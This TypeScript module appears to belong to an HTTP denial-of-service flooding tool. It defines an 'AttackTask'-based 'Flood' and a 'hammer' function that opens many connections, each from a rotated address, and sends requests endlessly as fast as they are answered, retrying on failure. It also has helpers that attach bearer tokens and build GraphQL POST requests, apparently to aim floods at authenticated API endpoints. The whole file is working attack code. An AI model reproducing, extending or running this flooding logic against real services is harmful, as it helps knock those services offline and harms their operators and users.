import { setTimeout as wait } from 'node:timers/promises';
import { HttpConnection } from '../clients/http-connection.ts';
import type { AttackTask, CallMade } from './messages.ts';

/** An attack under way: what it has to know, and where it says what it was told. */
export type Flood = AttackTask & {
  note(told: string): void;
  /** Of the n-th of whatever it does. */
  addressOf(place: number): string;
};

/** Something failed: it is tried again after so long, in milliseconds. */
const AGAIN_AFTER_MS = 100;

/** So many at once, each again as soon as it is over. */
export async function keepDoing(atOnce: number, one: (place: number) => Promise<void>): Promise<void> {
  const doInTurn = async (_: unknown, place: number) => {
    for (;;) {
      try {
        await one(place);
      } catch {
        await wait(AGAIN_AFTER_MS);
      }
    }
  };
  await Promise.all(Array.from({ length: atOnce }, doInTurn));
}

/** So many connections that each have one call open at a time, as fast as they are answered, whatever they are told. */
export const hammer = (flood: Flood, connections: number, next: (place: number) => CallMade): Promise<void> =>
  keepDoing(connections, async (place) => {
    const connection = await HttpConnection.open(flood.url, flood.addressOf(place));
    try {
      for (;;) {
        const { method, path, headers, body } = next(place);
        const { status } = await connection.request(method, path, headers, body);
        flood.note(String(status));
      }
    } catch (error) {
      flood.note('closed');
      throw error;
    } finally {
      connection.close();
    }
  });

export const bearer = (key: string): string => `Authorization: Bearer ${key}\r\n`;

/** A GraphQL document over HTTP. */
export const graphql = (query: string, headers = ''): CallMade => ({
  method: 'POST',
  path: '/graphql',
  headers,
  body: JSON.stringify({ query }),
});
